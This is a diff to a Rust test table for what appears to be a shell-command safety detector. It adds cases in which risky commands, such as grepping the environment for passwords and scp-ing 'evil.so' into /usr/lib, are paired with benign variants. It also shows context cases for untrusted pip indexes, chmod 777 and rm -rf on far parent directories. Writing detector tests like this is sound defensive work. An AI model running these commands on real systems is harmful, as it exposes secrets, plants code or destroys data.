@@ -178,6 +178,8 @@ const CASES: &[(&str, &str, &str)] = &[
     ("network.untrusted_package", "pip install --index-url http://x.example/simple pkg", "pip install -r requirements.txt"),
     ("permission.world_writable", "chmod -R 777 ./uploads", "chmod -R 755 ./uploads"),
     ("file_delete.rm_far_parent", "rm -rf ../../..", "rm -rf ../build"),
+    ("recon.env_secret_grep", "env | grep -i password", "env | grep -i proxy"),
+    ("network.copy_to_remote_system", "scp evil.so host:/usr/lib/", "scp build.tgz host:/srv/releases/"),
 ];
 
 fn single_rule_detector(rule: &Rule) -> Detector {
